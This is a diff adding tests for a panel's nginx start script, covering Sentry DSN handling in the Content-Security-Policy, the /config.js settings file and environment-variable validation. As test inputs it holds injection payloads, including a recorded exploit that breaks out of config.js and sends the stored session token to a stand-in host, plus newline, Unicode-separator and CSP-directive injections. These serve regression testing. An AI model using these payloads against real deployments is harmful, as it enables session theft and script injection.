@@ -106,6 +106,20 @@ describe('the nginx config deploy/serve-nginx.sh renders', () => {
     ).toEqual(['https://api.exemplo.org.br', 'https://brasilapi.com.br']);
   });
 
+  it("with PAINEL_SENTRY_DSN, connect-src adds the DSN's origin (without its key), and nothing else", () => {
+    const connectSrc = (env: Record<string, string>) =>
+      parsePolicy(readDeployHeaders(start(liveBuild, env).file)['Content-Security-Policy']).get('connect-src');
+    expect(
+      connectSrc({
+        PAINEL_API_URL: 'https://api.exemplo.org.br',
+        PAINEL_SENTRY_DSN: 'https://0123abcd@erros.exemplo.org.br:8443/sentry/7',
+      }),
+    ).toEqual(['https://api.exemplo.org.br', 'https://brasilapi.com.br', 'https://erros.exemplo.org.br:8443']);
+    expect(
+      connectSrc({ PAINEL_API_URL: 'http://127.0.0.1:3333', PAINEL_SENTRY_DSN: 'http://chave@127.0.0.1:3333/1' }),
+    ).toEqual(['http://127.0.0.1:3333', 'https://brasilapi.com.br']);
+  });
+
   it('the demo policy adds only the service worker and calls to its own origin, which the worker answers', () => {
     const livePolicy = parsePolicy(configs.live.headers['Content-Security-Policy']);
     const demoPolicy = parsePolicy(configs.demo.headers['Content-Security-Policy']);
@@ -168,8 +182,9 @@ describe('the nginx config deploy/serve-nginx.sh renders', () => {
     const format = /log_format painel_sem_consulta '([^']*)'/.exec(configs.live.text)?.[1];
     expect(format).toContain('$painel_caminho');
     expect(format).not.toMatch(/\$request_uri|\$request\b|\$args|\$query_string|\$http_referer|\$uri/);
+    // Case-insensitive (~*), as the routes; what nginx really logs is checked by tests/e2e/nginx.e2e.ts.
     expect(configs.live.text).toMatch(
-      /map \$request_uri \$painel_caminho \{\s*~\^\/cadastrar-senha\(-associado\)\?\/\s+\/cadastrar-senha\$1\/\(token\);\s*~\^\/cobranca\/\s+\/cobranca\/\(id\);\s*~\^\(\?<caminho>\[\^\?\]\*\)\s+\$caminho;/,
+      /map \$request_uri \$painel_caminho \{\s*~\*\^\(\?<rota>\/cadastrar-senha\(-associado\)\?\/\)\s+\$rota\(token\);\s*~\*\^\(\?<rota>\/cobranca\/\)\s+\$rota\(id\);\s*~\^\/\[\^\/\?\]\*%\s+\/\(codificado\);\s*~\^\(\?<caminho>\[\^\?\]\*\)\s+\$caminho;/,
     );
     expect(configs.live.text).toContain('access_log /dev/stdout painel_sem_consulta;');
   });
@@ -201,6 +216,10 @@ describe('the nginx config deploy/serve-nginx.sh renders', () => {
   });
 });
 
+/** Issue 23: the value that started the panel with a statement of the operator's choosing in /config.js. */
+const EXPLOIT =
+  '"});location="https://x.example/?"+localStorage.getItem("anoreg-painel:sessao");//\nhttps://associados.anoreg.org.br/login';
+
 describe('the settings file written at start (/config.js)', () => {
   const settingsOf = (text: string | null) => {
     const match = /^window\.__PAINEL_CONFIG__ = Object\.freeze\((\{.*\})\);\n$/.exec(text ?? '');
@@ -231,6 +250,57 @@ describe('the settings file written at start (/config.js)', () => {
     });
   });
 
+  it('error reporting: off without PAINEL_SENTRY_DSN; with it, the DSN, the environment (producao) and the release', () => {
+    expect(settingsOf(live.settings)).not.toHaveProperty('sentryDsn');
+    expect(
+      settingsOf(
+        start(liveBuild, {
+          PAINEL_API_URL: 'https://api.exemplo.org.br',
+          PAINEL_SENTRY_DSN: 'https://0123abcd@erros.exemplo.org.br/7',
+        }).settings,
+      ),
+    ).toMatchObject({ sentryDsn: 'https://0123abcd@erros.exemplo.org.br/7', sentryEnvironment: 'producao' });
+    expect(
+      settingsOf(
+        start(liveBuild, {
+          PAINEL_API_URL: 'https://api.exemplo.org.br',
+          PAINEL_SENTRY_DSN: 'https://0123abcd@erros.exemplo.org.br/7',
+          PAINEL_SENTRY_ENVIRONMENT: 'homologacao',
+          PAINEL_SENTRY_RELEASE: 'painel@1.7.22+hml',
+        }).settings,
+      ),
+    ).toMatchObject({ sentryEnvironment: 'homologacao', sentryRelease: 'painel@1.7.22+hml' });
+  });
+
+  it.each([
+    [
+      'PAINEL_SENTRY_DSN',
+      'https://erros.exemplo.org.br/7',
+      'PAINEL_SENTRY_DSN inválida: "https://erros.exemplo.org.br/7". Use o DSN do projeto',
+    ],
+    ['PAINEL_SENTRY_DSN', 'https://chave@erros.exemplo.org.br/sete', 'PAINEL_SENTRY_DSN inválida'],
+    [
+      'PAINEL_SENTRY_DSN',
+      "https://chave@erros.exemplo.org.br/7; script-src 'unsafe-inline'",
+      'PAINEL_SENTRY_DSN inválida',
+    ],
+    ['PAINEL_SENTRY_ENVIRONMENT', 'produção', 'PAINEL_SENTRY_ENVIRONMENT inválida: "produção"'],
+    [
+      'PAINEL_SENTRY_RELEASE',
+      'painel/1.7',
+      'PAINEL_SENTRY_RELEASE inválida: "painel/1.7" (sem / nem \\, até 200 caracteres).',
+    ],
+  ])('a malformed %s (%s) stops the start', (name, value, message) => {
+    const started = start(liveBuild, {
+      PAINEL_API_URL: 'https://api.exemplo.org.br',
+      PAINEL_SENTRY_DSN: 'https://0123abcd@erros.exemplo.org.br/7',
+      [name]: value,
+    });
+    expect(started.code).toBe(1);
+    expect(started.output).toContain(message);
+    expect(started.config).toBeNull();
+  });
+
   it('without PAINEL_API_URL the server does not start, and says why', () => {
     for (const env of [{}, { PAINEL_API_URL: '' }] as Record<string, string>[]) {
       const started = start(liveBuild, env);
@@ -259,6 +329,52 @@ describe('the settings file written at start (/config.js)', () => {
       `${name} inválida: "${value}". Use um endereço http(s) como https://api.exemplo.org.br`,
     );
     expect(started.config).toBeNull();
+  });
+
+  it.each([
+    ['PAINEL_ASSOCIATE_PORTAL_URL', 'the exploit: a statement, then a valid address on the next line', EXPLOIT],
+    ['PAINEL_API_URL', 'a valid address, then a line of code', 'https://api.exemplo.org.br\nalert(1)'],
+    ['PAINEL_CEP_API_URL', 'a carriage return', 'https://cep.exemplo.org.br\r'],
+    ['PAINEL_API_URL', 'a tab', 'https://api.exemplo.org.br\t'],
+    ['PAINEL_API_URL', 'an escape character', 'https://api.exemplo.org.br\u001b[2J'],
+    ['PAINEL_API_URL', 'a C1 control (NEL)', 'https://api.exemplo.org.br\u0085'],
+    ['PAINEL_API_URL', 'U+2028', 'https://api.exemplo.org.br/\u2028alert(1)'],
+    ['PAINEL_ASSOCIATE_PORTAL_URL', 'U+2029', 'https://portal.exemplo.org.br/\u2029'],
+    ['PAINEL_CSP_REPORT_URI', 'a newline', 'https://relatorios.exemplo.org.br/csp\nhttps://x.exemplo'],
+    ['PAINEL_LISTEN_HOST', 'a newline', '127.0.0.1\n0.0.0.0'],
+    ['PAINEL_SENTRY_RELEASE', 'a newline', '1.7.22\n"});alert(1);//'],
+    ['PAINEL_QUALQUER_OUTRA', 'a newline, in a setting the script does not read', 'a\nb'],
+  ])('%s holding %s stops the start, naming the variable, before anything is written', (name, _what, value) => {
+    const started = start(liveBuild, { PAINEL_API_URL: 'https://api.exemplo.org.br', [name]: value });
+    expect(started.code).toBe(1);
+    expect(started.output).toBe(
+      `serve-nginx: ${name} inválida: contém uma quebra de linha, um caractere de controle ou um separador de linha Unicode (U+2028, U+2029). Cada configuração é uma única linha de texto.\n`,
+    );
+    expect([started.config, started.settings]).toEqual([null, null]);
+  });
+
+  it('a setting longer than 2048 characters stops the start, without printing it', () => {
+    const long = `https://api.exemplo.org.br/${'a'.repeat(2048)}`;
+    const started = start(liveBuild, { PAINEL_API_URL: long });
+    expect(started.code).toBe(1);
+    expect(started.output).toBe(
+      `serve-nginx: PAINEL_API_URL inválida: tem ${long.length} caracteres (no máximo 2048).\n`,
+    );
+    const longest = `https://api.exemplo.org.br/${'a'.repeat(2048 - 27)}`;
+    expect(settingsOf(start(liveBuild, { PAINEL_API_URL: longest }).settings)?.apiUrl).toBe(longest);
+  });
+
+  it('writes JSON in which quotes, <, >, & and the Unicode line separators are escapes', () => {
+    const started = start(liveBuild, {
+      PAINEL_API_URL: 'https://api.exemplo.org.br',
+      PAINEL_SENTRY_DSN: 'https://chave@sentry.exemplo.org.br/2',
+      // A release may hold anything but a slash or a backslash (Sentry's rule).
+      PAINEL_SENTRY_RELEASE: 'painel "1.7" <script>&<!--',
+    });
+    expect(started.code).toBe(0);
+    expect(started.settings).toContain('"sentryRelease":"painel \\"1.7\\" \\u003cscript\\u003e\\u0026\\u003c!--"');
+    expect(started.settings).not.toMatch(/<|>|&/);
+    expect(settingsOf(started.settings)?.sentryRelease).toBe('painel "1.7" <script>&<!--');
   });
 
   it.each(['0', '-5', '3s', '1.5'])('a malformed PAINEL_REQUEST_TIMEOUT_MS (%s) stops the start', (value) => {
